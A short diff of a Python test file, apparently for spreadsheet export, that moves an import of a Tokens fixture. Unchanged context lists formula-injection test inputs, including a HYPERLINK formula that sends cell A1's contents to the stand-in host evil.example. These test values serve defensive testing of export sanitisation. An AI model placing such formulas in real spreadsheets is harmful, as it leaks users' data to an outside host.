@@ -13,8 +13,8 @@ import httpx
 import openpyxl
 import pytest
 
-from services.common.testing import Tokens
 from tests.kinerja.test_evaluations_seed import Seeder, connect
+from tests.support.fixtures import Tokens
 
 NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "@SUM(1+1)", "+6281234", "-1+1", "\tTab"]
 
